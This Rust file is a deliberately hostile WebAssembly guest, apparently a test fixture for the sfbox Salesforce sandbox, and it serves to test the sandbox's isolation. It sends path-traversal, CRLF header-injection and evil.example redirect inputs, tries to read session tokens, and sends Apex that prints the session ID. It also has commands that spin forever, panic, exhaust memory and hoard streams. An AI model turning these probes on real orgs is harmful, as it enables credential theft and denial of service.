//! A consumer of sfbox that means no good, composed with it: it exports what sfbox
//! exports, and the SOQL statement says what it does.
//!
//! | statement | what it does |
//! |---|---|
//! | `pry` | calls every function there is, well and badly, and answers all it learned |
//! | `spin` | computes for ever |
//! | `trap` | panics |
//! | `hog` | takes memory until it is stopped |
//! | `streams N` | opens N streams, and keeps them |
//!
//! Anything else answers an empty object. Requests with streams are passed on as they are.
#![expect(clippy::panic, reason = "it misbehaves on purpose")]

mod bindings {
    #![expect(unsafe_code, reason = "generated code")]

    wit_bindgen::generate!({
        path: "../../../wit",
        inline: "
            package sfbox:intruder@0.1.0;

            world intruder {
                import sfbox:client/query@0.4.0;
                import sfbox:client/query-stream@0.4.0;
                import sfbox:client/session@0.4.0;
                import sfbox:client/sobjects@0.4.0;
                import sfbox:client/collections@0.4.0;
                import sfbox:client/composite@0.4.0;
                import sfbox:client/search@0.4.0;
                import sfbox:client/org@0.4.0;
                import sfbox:client/rest@0.4.0;
                import sfbox:client/rest-streams@0.4.0;
                import wasi:http/types@0.3.0;
                import wasi:clocks/system-clock@0.3.0;

                export sfbox:client/types@0.4.0;
                export sfbox:client/query@0.4.0;
                export sfbox:client/session@0.4.0;
                export sfbox:client/rest@0.4.0;
                export sfbox:client/rest-streams@0.4.0;
            }
        ",
        generate_all,
    });

    use super::Intruder;
    export!(Intruder);
}

use std::fmt::Debug;

mod queries;

use bindings::exports::sfbox::client as exports;
use bindings::sfbox::client as sfbox;
use bindings::wasi::clocks::system_clock;
use bindings::wasi::http::types as wasi_http;
use bindings::{wit_future, wit_stream};
use exports::query::{Page, QueryOptions};
use exports::rest::{Request, Response, RestOptions};
use exports::session::SessionStatus;
use exports::types::{Error, Options};
use sfbox::query::Rows;
use sfbox::rest::Method;

struct Intruder;

impl exports::query::Guest for Intruder {
    async fn query(
        org: String,
        soql: String,
        _: Vec<exports::types::Parameter>,
        _: QueryOptions,
    ) -> Result<Page, Error> {
        let (verb, argument) = soql.split_once(' ').unwrap_or((&soql, ""));
        match verb {
            "pry" => Ok(answer(&pry(&org).await)),
            "spin" => spin(),
            "trap" => panic!("on request"),
            "hog" => hog(),
            "streams" => Ok(streams(argument.parse().unwrap_or(0))),
            _ => Ok(answer("{}")),
        }
    }

    async fn query_more(_: String, _: String, _: QueryOptions) -> Result<Page, Error> {
        Err(Error::SessionChanged)
    }

    async fn explain(
        _: String,
        _: String,
        _: Vec<exports::types::Parameter>,
        _: QueryOptions,
    ) -> Result<String, Error> {
        Err(Error::SessionChanged)
    }
}

impl exports::session::Guest for Intruder {
    async fn status(_: String, _: Options) -> Result<SessionStatus, Error> {
        Err(Error::SessionChanged)
    }

    async fn renew(_: String, _: Options) -> Result<SessionStatus, Error> {
        Err(Error::SessionChanged)
    }

    async fn forget(_: String, _: Options) -> Result<(), Error> {
        Err(Error::SessionChanged)
    }
}

impl exports::rest::Guest for Intruder {
    async fn send(_: String, _: Request, _: RestOptions) -> Result<Response, Error> {
        Err(Error::SessionChanged)
    }
}

/// A proxy, which is honest.
impl exports::rest_streams::Guest for Intruder {
    async fn send(
        org: String,
        request: wasi_http::Request,
        options: exports::rest_streams::StreamOptions,
    ) -> Result<wasi_http::Response, Error> {
        let options = sfbox::rest_streams::StreamOptions {
            timeout_ms: options.timeout_ms,
            idle_ms: options.idle_ms,
            repeatable: options.repeatable,
        };
        let answered = sfbox::rest_streams::send(org, request, options).await;
        answered.map_err(|_| Error::SessionChanged)
    }
}

/// A page that is `text`, whatever that is.
fn answer(text: &str) -> Page {
    Page {
        body: text.to_owned(),
        total_size: Some(0),
        next: None,
    }
}

fn call(timeout_ms: Option<u32>, api_version: Option<&str>) -> sfbox::types::Options {
    sfbox::types::Options {
        timeout_ms,
        api_version: api_version.map(str::to_owned),
    }
}

/// What each function answers to good input and to bad, a line each. The line begins
/// with the function's name in the contract: a test compares them with `wit/`.
async fn pry(org: &str) -> String {
    let calls = [
        call(None, None),
        call(None, Some("latest")),
        call(Some(1), None),
        call(Some(0), None),
        call(None, Some("../../oauth2/userinfo")),
        call(None, Some("v66.0\r\nX-Other: 1")),
    ];
    // A locator that would lead elsewhere; statements that ask for what is not a
    // row; an org that is not the caller's.
    let statements = [
        "SELECT Id FROM Account LIMIT 1",
        "SELECT Id FROM Account",
        "SELECT SessionId, AccessToken FROM AuthSession",
        "SELECT $Api.Session_Id FROM User",
        "",
        "../../../oauth2/token",
    ];
    let locators = [
        "",
        "/services/oauth2/userinfo",
        "https://evil.example/services/data/v66.0/query/01g-2000",
        "0000000000000000./services/oauth2/introspect",
    ];
    let mut learned = String::new();
    for name in [org, "other", "", "../acme"] {
        for call in &calls {
            for rows in [Rows::Live, Rows::All] {
                for soql in statements {
                    let options = query_options(call, rows);
                    let soql = soql.to_owned();
                    let page =
                        sfbox::query::query(name.to_owned(), soql, Vec::new(), options).await;
                    if let Ok(page) = &page
                        && let Some(next) = page.next.clone()
                    {
                        let options = query_options(call, rows);
                        let more = sfbox::query::query_more(name.to_owned(), next, options).await;
                        learn(&mut learned, "query#query-more", &more);
                    }
                    learn(&mut learned, "query#query", &page);
                }
            }
            for next in locators {
                let options = query_options(call, Rows::Live);
                let more =
                    sfbox::query::query_more(name.to_owned(), next.to_owned(), options).await;
                learn(&mut learned, "query#query-more", &more);
            }
            queries::pry(&mut learned, name, &statements, call).await;
            pry_at_rest(&mut learned, name, call).await;
            pry_at_records(&mut learned, name, call).await;
            pry_at_collections(&mut learned, name, call).await;
            pry_at_composites(&mut learned, name, call).await;
            pry_at_streams(&mut learned, name, call.timeout_ms).await;
            let options = || call.clone();
            let status = sfbox::session::status(name.to_owned(), options()).await;
            learn(&mut learned, "session#status", &status);
            let renewed = sfbox::session::renew(name.to_owned(), options()).await;
            learn(&mut learned, "session#renew", &renewed);
            let forgotten = sfbox::session::forget(name.to_owned(), options()).await;
            learn(&mut learned, "session#forget", &forgotten);
        }
    }
    // The caller's session is there again.
    let renewed = sfbox::session::renew(org.to_owned(), call(None, None)).await;
    learn(&mut learned, "session#renew", &renewed);
    learned
}

/// Requests that would be told the token if anything told it, and paths and headers that
/// must not pass.
async fn pry_at_rest(learned: &mut String, org: &str, call: &sfbox::types::Options) {
    let paths = [
        "limits",
        "/services/data",
        "/services/apexrest/echo?header=x-echo:%20{!$Api.Session_Id}",
        "/services/async/66.0/job",
        "tooling/executeAnonymous/?anonymousBody=System.debug(UserInfo.getSessionId());",
        "query/01g000000000000AAA-2000",
        "/id/00DSb0000000001/005Sb0000000001",
        "/id/00DSb0000000001/005Sb0000000001?oauth_token=mine",
        "/services/oauth2/userinfo",
        "/services/oauth2/introspect",
        "/services/OAuth2/token",
        "/secur/frontdoor.jsp",
        "../../oauth2/userinfo",
        "//evil.example/services/data",
        "https://evil.example/services/data",
        "@evil.example/services/data",
        "/services/%6fauth2/userinfo",
        "limits\r\nX-Other: 1",
    ];
    let headers = [
        None,
        Some(("Authorization", "Bearer mine")),
        Some(("X-SFDC-Session", "mine")),
        Some(("Host", "evil.example")),
        Some(("X-HTTP-Method-Override", "TRACE")),
        Some(("X-Other", "1\r\nHost: evil.example")),
    ];
    for path in paths {
        for header in headers {
            for method in [Method::Get, Method::Post, Method::Options] {
                let named = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
                let request = sfbox::rest::Request {
                    method,
                    path: path.to_owned(),
                    headers: header.map(named).into_iter().collect(),
                    body: Vec::new(),
                };
                let options = sfbox::rest::RestOptions {
                    call: call.clone(),
                    repeatable: false,
                };
                let answered = sfbox::rest::send(org.to_owned(), request, options).await;
                // As text, which is what is searched for secrets.
                let answered = answered.map(|response| {
                    let body = String::from_utf8_lossy(&response.body).into_owned();
                    (response.status, response.headers, body)
                });
                learn(learned, "rest#send", &answered);
            }
        }
    }
}

/// Records with names that lead elsewhere, with values that are references to the session,
/// and of an org that is not the caller's.
async fn pry_at_records(learned: &mut String, org: &str, call: &sfbox::types::Options) {
    use sfbox::sobjects::{self, ExternalId, Key};

    let org = || org.to_owned();
    let write = || sfbox::types::WriteOptions {
        call: call.clone(),
        repeat: None,
        assignment: None,
        duplicates: None,
        headers: Vec::new(),
    };
    let change = || sobjects::ChangeOptions {
        write: write(),
        if_unchanged: None,
    };
    let read = || sobjects::ReadOptions {
        call: call.clone(),
        if_changed: None,
        headers: vec![("x-other".to_owned(), "1".to_owned())],
    };
    let fields = r#"{"Name":"{!$Api.Session_Id}"}"#;
    for object in [
        "Account",
        "AuthSession",
        "../../oauth2/userinfo",
        "//evil.example",
    ] {
        let object = || object.to_owned();
        let external = || ExternalId {
            field: "Ext__c".to_owned(),
            value: "../{!$Api.Session_Id}".to_owned(),
        };
        let good = || ExternalId {
            value: "of the intruder".to_owned(),
            ..external()
        };
        let created = sobjects::create(org(), object(), fields.to_owned(), write()).await;
        let id = created.as_ref().ok().and_then(|created| created.id.clone());
        learn(learned, "sobjects#create", &created);
        let key = || Key::Id(id.clone().unwrap_or_default());
        let got = sobjects::get(org(), object(), key(), Vec::new(), read()).await;
        learn(learned, "sobjects#get", &got);
        let got = sobjects::get(
            org(),
            object(),
            Key::External(external()),
            Vec::new(),
            read(),
        );
        learn(learned, "sobjects#get", &got.await);
        let updated = sobjects::update(org(), object(), key(), fields.to_owned(), change()).await;
        learn(learned, "sobjects#update", &updated);
        for external in [external(), good()] {
            let fields = fields.to_owned();
            let upserted = sobjects::upsert(org(), object(), external, fields, write()).await;
            learn(learned, "sobjects#upsert", &upserted);
        }
        let deleted = sobjects::delete(org(), object(), key(), write()).await;
        learn(learned, "sobjects#delete", &deleted);
        let now = u64::try_from(system_clock::now().seconds).unwrap_or(0) * 1_000;
        let (start, end) = (now.saturating_sub(600_000), now);
        let deleted = sobjects::deleted(org(), object(), start, end, call.clone()).await;
        learn(learned, "sobjects#deleted", &deleted);
        let updated = sobjects::updated(org(), object(), start, end, call.clone()).await;
        learn(learned, "sobjects#updated", &updated);
    }
}

/// The same of many records in one call.
async fn pry_at_collections(learned: &mut String, org: &str, call: &sfbox::types::Options) {
    use sfbox::collections;

    let org = || org.to_owned();
    let options = || collections::ManyOptions {
        write: sfbox::types::WriteOptions {
            call: call.clone(),
            repeat: None,
            assignment: None,
            duplicates: None,
            headers: vec![("x-other".to_owned(), "1".to_owned())],
        },
        all_or_none: false,
        batch_size: None,
        in_flight: None,
    };
    let field = || "Ext__c".to_owned();
    let record = r#"{"Name":"{!$Api.Session_Id}","Ext__c":"{!$Api.Session_Id}"}"#;
    for object in ["Account", "AuthSession", "../../oauth2/userinfo"] {
        let object = || object.to_owned();
        let records = || vec![record.to_owned()];
        let created = collections::create(org(), object(), records(), options()).await;
        learn(learned, "collections#create", &created);
        let ids = || vec!["001000000000001AAA".to_owned()];
        let existing =
            vec![r#"{"Id":"001000000000001AAA","Name":"{!$Api.Session_Id}"}"#.to_owned()];
        let updated = collections::update(org(), object(), existing, options()).await;
        learn(learned, "collections#update", &updated);
        let upserted = collections::upsert(org(), object(), field(), records(), options()).await;
        learn(learned, "collections#upsert", &upserted);
        let got = collections::get(org(), object(), ids(), vec![field()], call.clone()).await;
        learn(learned, "collections#get", &got);
        let deleted = collections::delete(org(), ids(), options()).await;
        learn(learned, "collections#delete", &deleted);
    }
}

/// Requests in others, which ask for what is not theirs.
async fn pry_at_composites(learned: &mut String, org: &str, call: &sfbox::types::Options) {
    use sfbox::composite::{self, Graph, OnFailure, Subrequest};

    let org = || org.to_owned();
    let options = || sfbox::types::WriteOptions {
        call: call.clone(),
        repeat: None,
        assignment: None,
        duplicates: None,
        headers: Vec::new(),
    };
    for path in [
        "sobjects/Account",
        "../../oauth2/userinfo",
        "tooling/executeAnonymous/?anonymousBody=x",
        "sobjects/@{a.token}",
    ] {
        let part = || Subrequest {
            reference_id: "a".to_owned(),
            method: Method::Post,
            path: path.to_owned(),
            body: Some(r#"{"Name":"{!$Api.Session_Id}"}"#.to_owned()),
            headers: Vec::new(),
        };
        let sent = composite::send(org(), vec![part()], OnFailure::Stop, options()).await;
        learn(learned, "composite#send", &sent);
        let sent = composite::batch(org(), vec![part()], OnFailure::GoOn, options()).await;
        learn(learned, "composite#batch", &sent);
        let graph = Graph {
            id: "g".to_owned(),
            requests: vec![part()],
        };
        let sent = composite::graphs(org(), vec![graph], options()).await;
        learn(learned, "composite#graphs", &sent);
    }
    for object in ["Account", "../../oauth2/userinfo"] {
        let record =
            r#"{"attributes":{"type":"Account","referenceId":"a"},"Name":"{!$Api.Session_Id}"}"#;
        let records = vec![record.to_owned()];
        let planted = composite::tree(org(), object.to_owned(), records, options()).await;
        learn(learned, "composite#tree", &planted);
    }
}

/// Requests whose answers would tell the token if any did, with bodies that are read whole
/// and bodies that are passed on, and what must not pass.
async fn pry_at_streams(learned: &mut String, org: &str, timeout_ms: Option<u32>) {
    let paths = [
        "/services/data/v66.0/limits",
        "/services/apexrest/echo?header=x-echo:%20{!$Api.Session_Id}",
        "/services/apexrest/echo",
        "/id/00DSb0000000001/005Sb0000000001",
        "/services/oauth2/userinfo",
        "/services/oauth2/token",
        "/secur/frontdoor.jsp",
        "/services/%6fauth2/userinfo",
    ];
    let headers = [
        ("accept", "*/*"),
        ("accept-encoding", "gzip"),
        ("authorization", "Bearer mine"),
        ("x-sfdc-session", "mine"),
        ("x-http-method-override", "TRACE"),
        ("x-sfbox-caller", "mine"),
    ];
    for path in paths {
        for header in headers {
            for (method, body) in [
                (wasi_http::Method::Get, None),
                (wasi_http::Method::Post, Some("{!$Api.Session_Id}")),
                (wasi_http::Method::Trace, None),
            ] {
                let options = sfbox::rest_streams::StreamOptions {
                    timeout_ms,
                    idle_ms: None,
                    repeatable: false,
                };
                let request = request(&method, path, header, body);
                let answered = sfbox::rest_streams::send(org.to_owned(), request, options).await;
                let answered = match answered {
                    Ok(response) => Ok(told(response).await),
                    Err(error) => Err(error),
                };
                learn(learned, "rest-streams#send", &answered);
            }
        }
    }
}

/// A request to a host of our own choice, whose body says nothing of its length.
fn request(
    method: &wasi_http::Method,
    path: &str,
    (name, value): (&str, &str),
    body: Option<&'static str>,
) -> wasi_http::Request {
    let headers = [(name.to_owned(), value.as_bytes().to_vec())];
    let headers = wasi_http::Fields::from_list(&headers).expect("they are headers");
    let (trailers, no_trailers) = wit_future::new(|| Ok(None));
    let contents = body.map(|body| {
        let (mut writer, contents) = wit_stream::new();
        wit_bindgen::spawn_local(async move {
            writer.write_all(body.as_bytes().to_vec()).await;
            drop(writer);
            drop(trailers);
        });
        contents
    });
    let (request, _) = wasi_http::Request::new(headers, contents, no_trailers, None);
    request.set_method(method).expect("it is a method");
    request
        .set_authority(Some("evil.example"))
        .expect("it is a host");
    request
        .set_path_with_query(Some(path))
        .expect("it is a path");
    request
}

/// What a response tells, as text.
async fn told(response: wasi_http::Response) -> (u16, String, String) {
    let status = response.get_status_code();
    let headers = response.get_headers().copy_all();
    let headers = headers
        .into_iter()
        .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(&value)));
    let headers: Vec<String> = headers.collect();
    let (processed, res) = wit_future::new(|| Ok(()));
    drop(processed);
    let (body, _trailers) = wasi_http::Response::consume_body(response, res);
    let body = body.collect().await;
    (
        status,
        headers.join("; "),
        String::from_utf8_lossy(&body).into_owned(),
    )
}

fn query_options(call: &sfbox::types::Options, rows: Rows) -> sfbox::query::QueryOptions {
    sfbox::query::QueryOptions {
        call: call.clone(),
        rows,
        batch_size: Some(200),
        tooling: false,
        composite: true,
        complete_children: true,
    }
}

fn learn(learned: &mut String, function: &str, outcome: &impl Debug) {
    learned.push_str(function);
    learned.push_str(": ");
    learned.push_str(&format!("{outcome:?}"));
    learned.push('\n');
}

fn spin() -> ! {
    let mut count = 0_u64;
    loop {
        count = std::hint::black_box(count.wrapping_add(1));
    }
}

fn hog() -> ! {
    let mut taken = Vec::new();
    loop {
        taken.push(std::hint::black_box(vec![1_u8; 1 << 20]));
    }
}

fn streams(count: u32) -> Page {
    let open: Vec<_> = (0..count).map(|_| wit_stream::new::<u8>()).collect();
    answer(&std::hint::black_box(open).len().to_string())
}
